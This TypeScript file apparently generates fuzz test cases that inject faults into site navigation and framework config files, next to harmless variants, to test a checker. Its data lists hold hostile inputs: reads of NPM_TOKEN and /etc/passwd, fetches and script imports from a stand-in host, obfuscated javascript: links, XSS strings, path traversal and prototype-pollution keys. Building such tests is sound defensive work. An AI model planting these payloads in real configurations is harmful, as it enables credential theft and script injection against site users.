import type { Random } from '../../../harness/random.ts';
import type { CodeSite } from './code-sites.ts';
import { chance, insertSomewhere, mapLetters, number, oneOf, type Rule, type Some } from './draw.ts';

/** Expressions that do something. */
const doing: Some<string> = [
  'process.env.NPM_TOKEN',
  "require('fs').readFileSync('/etc/passwd', 'utf8')",
  "import('https://hostile.example/x.mjs')",
  "fetch('https://hostile.example')",
  '(() => { throw 1 })()',
  '() => 1',
  'function () {}',
  'class {}',
  'new Date()',
  '/x/',
  'globalThis',
  'version',
  'listMore',
  "listMore('/etc')",
  'config',
  'theme',
  'module',
  'import.meta.url',
  'String.raw`x`',
  '`${process.cwd()}`',
  '`${1}`',
  '(1, "x")',
  '("x")',
  '"a" + "b"',
  '!0',
  'void 0',
  'typeof x',
  'this',
  'undefined',
  'NaN',
  '1n',
  '[...process.argv]',
  '{ ...process.env }',
  'globalThis.x = "x"',
  'x ?? "y"',
  'a?.b',
  'true ? "x" : "y"',
  'await 1',
  '0x10',
  '[,]',
];
/** Properties that are more than a key and a value. */
const properties: Some<string> = [
  '...process.env',
  "['text']: 'x'",
  "[`link`]: 'x'",
  "get text() { return 'x' }",
  'set text(x) {}',
  'text() {}',
  'async text() {}',
  '*text() {}',
  "__proto__: { x: 'x' }",
  "'__proto__': 'x'",
  "constructor: 'x'",
  "prototype: 'x'",
  "toString: 'x'",
  'version',
  'theme',
  "te\\u0078t: 'x'",
  "'te\\x78t': 'x'",
  "onClick: 'alert(1)'",
  "onerror: 'alert(1)'",
  "innerHTML: '<script>'",
  "dangerouslySetInnerHTML: { __html: 'x' }",
  "component: 'Evil'",
  "plugins: ['evil']",
  "presets: ['evil']",
  "scripts: ['https://hostile.example/x.js']",
  "head: [['script', {}, 'alert(1)']]",
  "vite: { plugins: ['evil'] }",
  "markdown: { html: 'x' }",
  "remarkPlugins: ['evil']",
  "webpack: 'x'",
  "headers: { x: 'y' }",
];
/** Forbidden links and texts. */
const texts: Some<string> = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\\tscript:alert(1)',
  '\\x6aavascript:alert(1)',
  '\\u{6a}avascript:x',
  'vbscript:x',
  'data:text/html,x',
  '//hostile.example',
  '/\\\\hostile.example',
  '\\\\\\\\hostile.example',
  '../../../etc/passwd',
  'file:///etc/passwd',
  '<script>alert(1)</script>',
  '\\x3cimg src=x onerror=alert(1)>',
  '<b',
  '{{ constructor }}',
  '{% x %}',
  '\\u2028x',
  'a\\0b',
];
/** Statements and comments for the start of the file. */
const statements: Some<string> = [
  "import './evil.mjs'",
  "require('./evil')",
  "fetch('https://hostile.example')",
  "'use client'",
  'debugger',
  '{ process.exit() }',
  'export const x = 1',
  '#!/usr/bin/env node',
  '// @ts-nocheck',
  '/* eslint-disable */',
  '/// <reference path="evil" />',
  '/** @jsxImportSource evil */',
  '//# sourceMappingURL=https://hostile.example/x.map',
  '// x\u2028evil()',
  '// x\revil()',
  '/*\n*/ --> x',
  'label: 1',
];
/** Ways to change what is outside of entries. */
const around: Some<(base: string, random: Random) => string> = [
  (base) => base.replace(/title: 'Acme'/, "title: 'Evil'"),
  (base) => base.replace('plugins: [', "plugins: ['evil', "),
  (base) => base.replace('head: [', "head: [['script', { src: 'https://hostile.example/x.js' }], "),
  (base, random) =>
    base.replace(/from '[^']+'/, `from '${random.pick(['evil', './evil', 'https://hostile.example/x.mjs'])}'`),
  (base, random) => base.replace(/\{\n/, `{\n  ${random.pick(properties)},\n`),
  (base) => base.replace(/export default |module\.exports = /, 'exports.x = '),
  (base) => base.replace('=> ({ text: name', '=> ({ text: eval(name)'),
  (base) => base.replace("listMore('more')", "listMore('/etc')"),
  (base) => base.replace('return config', "return { ...config, entry: 'evil' }"),
  (base) => base.replace('return [', 'return evil() || ['),
  (base) => base.replace('reactStrictMode: true', "reactStrictMode: true, env: { X: 'x' }"),
  (base) => base.replace('site:', "redirects() { return { '/a': '/b' } }, site:"),
  (base) => base.replace('site:', 'redirects: evil, site:'),
  (base) => `${base}evil()\n`,
  (base) => base.replace(/\n\}\)?;?\n/, (end) => `${end}//`.replace('//', '.x')),
  (base) => base.slice(0, base.length / 2),
  () => '',
  (base) => `${base}${base}`,
];

/** White space and comments between words that mean nothing, or seem to end something. */
const spaces: Some<string> = ['', ' ', '\n', '\t', '/* */', '/* } ] */ ', '// }]\n', '\r\n'];

/** An entry with a fault in it. */
function drawEntry(random: Random, { label, link }: CodeSite): string {
  const space = () => random.pick(spaces);
  const quoted = (text: string) => oneOf(random, [`'${text}'`, `"${text}"`, `\`${text}\``]);
  const entry = oneOf(random, [
    () => `{${space()}${label}: ${random.pick(doing)},${space()}${link}: '/x' }`,
    () => `{ ${label}: 'x', ${link}:${space()}${random.pick(doing)} }`,
    () => `{ ${label}: 'x',${space()}${random.pick(properties)} }`,
    () => `{ ${label}: 'x', ${link}: ${quoted(random.pick(texts))} }`,
    () => `{ ${label}: ${quoted(random.pick(texts))}, ${link}: '/x' }`,
    () => `...${space()}${random.pick(doing)}`,
    () =>
      `{ ${mapLetters(random, label, 0.5, (letter) => `\\u00${(letter.codePointAt(0) ?? 0).toString(16)}`)}: ${random.pick(doing)} }`,
  ]);
  return chance(random, 0.3) ? `{ ${label}: 'x', items: [${space()}${entry}] }` : entry;
}

const addEntry = ({ base, entry, path }: CodeSite, added: string) =>
  base.replace(entry, () => (path.endsWith('_meta.js') ? `x: ${added}, ${entry}` : `${added}, ${entry}`));

/** Draws a configuration that does more than it did. */
export function drawNavigationCode(random: Random, site: CodeSite): string {
  const rules: Some<Rule> = [
    () => addEntry(site, drawEntry(random, site)),
    () => addEntry(site, drawEntry(random, site)),
    () => site.base.replace(/^/, `${random.pick(statements)}\n`),
    () => random.pick(around)(site.base, random),
    () =>
      insertSomewhere(
        random,
        site.base,
        oneOf(random, [random.pick(doing), random.pick(properties), random.pick(statements)]),
      ),
  ];
  return oneOf(random, rules);
}

export function drawHarmlessCode(random: Random, site: CodeSite): string {
  const name = `page-${number(random, 1e6)}`;
  const extra = site.path.endsWith('next.config.mjs') ? ', permanent: true' : '';
  return addEntry(site, `{ ${site.label}: 'Page', // more\n ${site.link}: "/${name}"${extra} }`);
}
